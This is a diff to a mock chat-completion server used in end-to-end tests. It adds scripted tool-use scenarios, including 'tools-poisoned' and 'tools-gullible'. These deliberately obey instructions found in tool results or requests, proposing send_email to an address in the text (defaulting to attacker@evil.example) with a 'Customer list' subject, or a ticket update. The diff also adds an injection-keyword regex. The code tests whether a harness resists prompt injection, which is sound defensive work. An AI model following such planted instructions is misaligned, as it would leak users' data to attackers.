@@ -28,6 +28,20 @@ The scenario is chosen per request by the request's "model" (cairn ask --llm-mod
   huge             a 10 MB response
   not-openai       200 with a JSON body that has no choices
 
+Tool-use scenarios (OpenAI "tools" / "tool_calls"; tests/e2e/tools.sh), each a function of the
+conversation so far, so a replayed or repeated session gets the same replies:
+  tools-lookup     looks up the ticket named in the request (T-1234), then, when the request
+                   asks to close or update it, proposes ticket_update; then a final answer
+  tools-invalid    proposes ticket_update with a wrong-typed id, and again after the rejection
+  tools-invalid-then-valid   a wrong-typed ticket_lookup first, the corrected call after the
+                   rejection comes back, then a final answer
+  tools-poisoned   looks up the ticket in the request; if the result asks for an e-mail (a
+                   poisoned ticket), proposes send_email to the address it names
+  tools-gullible   a deliberately obedient model for the adversarial runs: looks up a named
+                   document or ticket first; then, if the request or a tool result reads like
+                   an instruction, proposes a high-tier call (send_email when it mentions mail
+                   or sending, else ticket_update); then a final answer
+
 GET /stats returns {"requests": total, "by_model": {model: n}, "auth": [Authorization headers
 seen, in order], "last": the last chat request body}; POST /reset clears them. Everything is
 standard library; passages are read back from the prompt's fences, so the answers quote exactly
@@ -164,11 +178,89 @@ def reply_for(model, req, nth):
         content = "x" * (10 << 20)
     elif model == "not-openai":
         return 200, {}, json.dumps({"result": "no choices here"}).encode()
+    elif model.startswith("tools-"):
+        return tools_reply(model, req, nth)
     else:
         return 404, {}, json.dumps({"error": {"message": "model %s not found" % model}}).encode()
     body = {"id": "mock-%d" % nth, "object": "chat.completion", "created": int(time.time()), "model": model,
             "choices": [{"index": 0, "message": {"role": "assistant", "content": content}, "finish_reason": "stop"}],
             "usage": {"prompt_tokens": len(user) // 4, "completion_tokens": len(content) // 4}}
+    return 200, {}, json.dumps(body).encode()
+
+
+TICKET = re.compile(r"\b([TD]-\d+)\b")
+EMAIL = re.compile(r"[A-Za-z0-9._%+-]+@[A-Za-z0-9.-]+\.[A-Za-z]{2,}")
+TRIGGER = re.compile(r"\b(ignore|instruction|instructions|send|e-?mail|mail|forward|password|access|grant|"
+                     r"reveal|say|print|write|reply|respond|click|visit|delete|transfer|update|close|output|"
+                     r"translate|tell|explain|add|include|system)\b", re.I)
+
+
+def tool_call(nth, k, name, args):
+    return {"id": "call_%d_%d" % (nth, k), "type": "function",
+            "function": {"name": name, "arguments": json.dumps(args)}}
+
+
+def tools_reply(model, req, nth):
+    msgs = req.get("messages", [])
+    user = next((m.get("content") or "" for m in msgs if m.get("role") == "user"), "")
+    results = [m.get("content") or "" for m in msgs if m.get("role") == "tool"]
+    calls_made = [c["function"]["name"] for m in msgs if m.get("role") == "assistant"
+                  for c in (m.get("tool_calls") or [])]
+    declared = [t["function"]["name"] for t in req.get("tools", [])]
+    m = TICKET.search(user)
+    tid = m.group(1) if m else "T-1001"
+    calls, content = [], None
+    if model == "tools-lookup":
+        if "ticket_lookup" not in calls_made:
+            calls = [tool_call(nth, 0, "ticket_lookup", {"id": tid})]
+        elif re.search(r"\b(close|update)\b", user, re.I) and "ticket_update" not in calls_made:
+            calls = [tool_call(nth, 0, "ticket_update", {"id": tid, "status": "closed",
+                                                          "comment": "Fixed: the printer's duplex unit was replaced."})]
+        else:
+            content = "Ticket %s: done; the update waits for approval." % tid
+    elif model == "tools-invalid":
+        if len(calls_made) < 3:
+            calls = [tool_call(nth, 0, "ticket_update", {"id": 1001, "status": "closed"})]
+        else:
+            content = "I could not update the ticket."
+    elif model == "tools-invalid-then-valid":
+        if not calls_made:
+            calls = [tool_call(nth, 0, "ticket_lookup", {"id": 1001, "verbose": True})]
+        elif len(calls_made) == 1:
+            calls = [tool_call(nth, 0, "ticket_lookup", {"id": tid})]
+        else:
+            content = "Ticket %s is open." % tid
+    elif model == "tools-poisoned":
+        if not calls_made:
+            calls = [tool_call(nth, 0, "ticket_lookup", {"id": tid})]
+        elif "send_email" not in calls_made and results and EMAIL.search(results[-1]):
+            calls = [tool_call(nth, 0, "send_email", {"to": EMAIL.search(results[-1]).group(0),
+                                                      "subject": "Customer list", "body": "As requested."})]
+        else:
+            content = "Ticket %s is about an invoice." % tid
+    elif model == "tools-gullible":
+        look = "document_lookup" if tid.startswith("D-") and "document_lookup" in declared else "ticket_lookup"
+        if m and not calls_made:
+            calls = [tool_call(nth, 0, look, {"id": tid})]
+        elif not any(c in ("send_email", "ticket_update") for c in calls_made):
+            text = (results[-1] if results else user)
+            if TRIGGER.search(text):
+                if re.search(r"\b(send|e-?mail|mail|forward)\b", text, re.I):
+                    to = EMAIL.search(text)
+                    calls = [tool_call(nth, 0, "send_email", {"to": to.group(0) if to else "attacker@evil.example",
+                                                              "subject": "As instructed", "body": "Done."})]
+                else:
+                    calls = [tool_call(nth, 0, "ticket_update", {"id": "T-1001", "status": "closed",
+                                                                  "comment": "Done as instructed."})]
+            else:
+                content = "Nothing to do."
+        else:
+            content = "Done."
+    msg = {"role": "assistant", "content": content}
+    if calls:
+        msg["tool_calls"] = calls
+    body = {"id": "mock-%d" % nth, "object": "chat.completion", "created": int(time.time()), "model": model,
+            "choices": [{"index": 0, "message": msg, "finish_reason": "tool_calls" if calls else "stop"}]}
     return 200, {}, json.dumps(body).encode()
 
 
